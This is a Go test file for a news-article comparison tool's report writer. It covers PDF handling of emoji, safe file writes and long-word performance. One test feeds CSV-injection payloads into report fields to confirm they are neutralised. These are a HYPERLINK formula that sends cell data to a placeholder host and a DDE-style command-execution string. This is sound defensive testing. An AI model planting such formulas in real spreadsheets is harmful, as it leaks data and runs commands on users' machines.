package report_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/storydiff/storydiff/align"
	"github.com/storydiff/storydiff/diffing"
	"github.com/storydiff/storydiff/report"
)

// pdfText extracts a PDF's text with pdftotext, or skips the test.
func pdfText(t *testing.T, pdf []byte) string {
	t.Helper()
	if _, err := exec.LookPath("pdftotext"); err != nil {
		t.Skip("pdftotext not found (apt-get install poppler-utils): PDF text not checked")
	}
	p := filepath.Join(t.TempDir(), "r.pdf")
	if err := os.WriteFile(p, pdf, 0o644); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command("pdftotext", "-enc", "UTF-8", p, "-").CombinedOutput()
	if err != nil {
		t.Fatalf("pdftotext: %v\n%s", err, out)
	}
	return string(out)
}

// Characters beyond the Basic Multilingual Plane (emoji) and characters the
// fonts lack are shown as their code points in every report kind, in
// titles, outlets, paths, text and passages; nothing panics.
func TestHostilePDFCharactersTheFontLacks(t *testing.T) {
	const odd = "Talks 🎉 resume 中文"
	for _, m := range models {
		t.Run(m.name, func(t *testing.T) {
			model := m.model()
			switch v := model.(type) {
			case *report.Pair:
				v.A.Title, v.B.Outlet = odd, odd
				v.A.Files[0].Path = "/news/🎉.txt"
				v.Diff.Passages[0].Text = odd
			case *report.Story:
				v.Label = odd
				v.Articles[0].Title = odd
				v.Passages[0].Text = odd
			case *report.Duplicates:
				v.Groups[0].Members[0].Title = odd
				v.Judgements[0].Note = odd
			case *report.Archive:
				v.Articles[0].Title = odd
				v.Articles[1].Files[0].Path = "/news/🎉.txt"
				v.Stories[0].Label = odd
			}
			text := pdfText(t, write(t, model, report.PDF))
			for _, want := range []string{"Talks [U+1F389] resume [U+4E2D][U+6587]"} {
				if !strings.Contains(text, want) {
					t.Errorf("PDF text lacks %q:\n%s", want, text)
				}
			}
		})
	}
}

// The text of a diff and of the aligned table may hold emoji too.
func TestHostilePDFEmojiInText(t *testing.T) {
	a, b := "Officials met on Monday 🙂 in Geneva.\n\nThe talks went on.", "Officials met on Tuesday 🙂 in Geneva.\n\nThe talks went on 🎉."
	for _, mode := range []string{align.ModeDiff, align.ModeAligned} {
		m := pairModel()
		m.Diff.Result = diffing.Diff(a, b, diffing.Options{})
		al := align.Compare(1, 2, a, b, align.Options{Mode: mode})
		m.Alignment = &al
		text := pdfText(t, write(t, m, report.PDF))
		if !strings.Contains(text, "[U+1F642]") || !strings.Contains(text, "[U+1F389]") {
			t.Errorf("%s: PDF text lacks the emoji's code points:\n%s", mode, text)
		}
	}
}

// A writer that panics (as fpdf did on an emoji) leaves no temporary file,
// keeps the old report, and fails with an error naming the file.
func TestHostileWriteFilePanic(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "archive.pdf")
	if err := os.WriteFile(path, []byte("old report"), 0o644); err != nil {
		t.Fatal(err)
	}
	err := report.WriteFile(path, func(w io.Writer) error {
		io.WriteString(w, "%PDF-half")
		panic("index out of range [127881] with length 65536")
	})
	if err == nil || !strings.Contains(err.Error(), path) {
		t.Errorf("WriteFile error = %v, want one naming %s", err, path)
	}
	entries, _ := os.ReadDir(dir)
	if len(entries) != 1 {
		t.Errorf("folder holds %d entries, want only the old report", len(entries))
	}
	if got, _ := os.ReadFile(path); string(got) != "old report" {
		t.Errorf("report holds %q, want the old one", got)
	}
}

// longWordPair is a pair report (word diff) whose texts hold one word of n
// letters without a space.
func longWordPair(n int, mode string) *report.Pair {
	a := "Start " + strings.Repeat("x", n) + " end."
	b := "Begin " + strings.Repeat("x", n) + " end!"
	m := pairModel()
	m.Diff.Result = diffing.Diff(a, b, diffing.Options{})
	m.Diff.Passages = nil
	al := align.Compare(1, 2, a, b, align.Options{Mode: mode})
	m.Alignment = &al
	return m
}

// allocated returns the bytes allocated while f ran.
func allocated(f func()) uint64 {
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	f()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

// A word with no space in it is broken at the line's width, and the work
// grows with its length, not its square: fpdf converted the whole text to
// runes once per character, 40 s and gigabytes for a 100 KB word. Bytes
// allocated, unlike time, do not depend on the machine's load.
func TestHostilePDFLongWordIsLinear(t *testing.T) {
	var buf bytes.Buffer
	render := func(n int) func() {
		return func() {
			buf.Reset()
			if err := report.Write(&buf, longWordPair(n, align.ModeDiff), report.PDF); err != nil {
				t.Fatal(err)
			}
		}
	}
	render(100)() // fonts parsed, caches warm
	small, large := allocated(render(8_000)), allocated(render(32_000))
	if ratio := float64(large) / float64(small); ratio > 6 {
		t.Errorf("a 32,000-letter word allocated %.1f times what an 8,000-letter one did (%d and %d bytes): want about 4, linear",
			ratio, large, small)
	}
	// The word diff shows the word once, the table beside it twice.
	if got := strings.Count(pdfText(t, buf.Bytes()), "x"); got < 3*32_000 {
		t.Errorf("the PDF shows %d of the word's %d letters", got, 3*32_000)
	}
}

func BenchmarkPDFLongWord(b *testing.B) {
	for _, n := range []int{10_000, 100_000} {
		for _, mode := range []string{align.ModeDiff, align.ModeAligned} {
			b.Run(fmt.Sprintf("%s/%dKB", mode, n/1000), func(b *testing.B) {
				m := longWordPair(n, mode)
				for b.Loop() {
					if err := report.Write(io.Discard, m, report.PDF); err != nil {
						b.Fatal(err)
					}
				}
			})
		}
	}
}

// Cells a spreadsheet would run as formulas are neutralised with a leading
// apostrophe unless the report asks for raw cells; every row's settings say
// which was done.
func TestHostileCSVFormulas(t *testing.T) {
	hostile := func(settings ...report.Setting) *report.Archive {
		m := archiveModel()
		m.Provenance.Settings = append(m.Provenance.Settings, settings...)
		m.Articles[0].Title = `=HYPERLINK("http://x.example/?"&A1,"click")`
		m.Articles[0].Outlet = "+cmd|' /C calc'!A0"
		m.Articles[1].Title = "@SUM(1+1)"
		m.Articles[1].Outlet = "-2+3"
		m.Articles[1].Files[0].Path = "\t=1+1"
		m.Articles[2].Language = "\r=1"
		return m
	}
	cells := func(m *report.Archive) (map[string]string, []string) {
		recs, err := csv.NewReader(bytes.NewReader(write(t, m, report.CSV))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		head := recs[0]
		col := func(name string) int {
			for i, h := range head {
				if h == name {
					return i
				}
			}
			t.Fatalf("no column %s", name)
			return -1
		}
		got := map[string]string{
			"title1": recs[1][col("title")], "outlet1": recs[1][col("outlet")], "title2": recs[2][col("title")],
			"outlet2": recs[2][col("outlet")], "files2": recs[2][col("files")], "language3": recs[3][col("language")],
			"words1": recs[1][col("words")],
		}
		var settings []string
		for _, r := range recs[1:] {
			settings = append(settings, r[col("settings")])
		}
		return got, settings
	}

	got, settings := cells(hostile())
	for k, want := range map[string]string{
		"title1": `'=HYPERLINK("http://x.example/?"&A1,"click")`, "outlet1": "'+cmd|' /C calc'!A0",
		"title2": "'@SUM(1+1)", "outlet2": "'-2+3", "files2": "'\t=1+1; /news/b.jsonl#3", "words1": "30",
		// encoding/csv drops a carriage return inside a cell of a CRLF file;
		// the apostrophe came first.
		"language3": "'=1",
	} {
		if got[k] != want {
			t.Errorf("default: %s = %q, want %q", k, got[k], want)
		}
	}
	for _, s := range settings {
		if !strings.Contains(s, "csv.formulas=neutralised") {
			t.Errorf("default: settings %q do not say the formulas were neutralised", s)
		}
	}

	got, settings = cells(hostile(report.Setting{Group: "csv", Name: report.CSVFormulas, Value: report.RawCSV}))
	if got["title1"] != `=HYPERLINK("http://x.example/?"&A1,"click")` || got["files2"] != "\t=1+1; /news/b.jsonl#3" {
		t.Errorf("raw: cells changed: %q", got)
	}
	for _, s := range settings {
		if !strings.Contains(s, "csv.formulas=raw") {
			t.Errorf("raw: settings %q do not say the cells are raw", s)
		}
	}
}
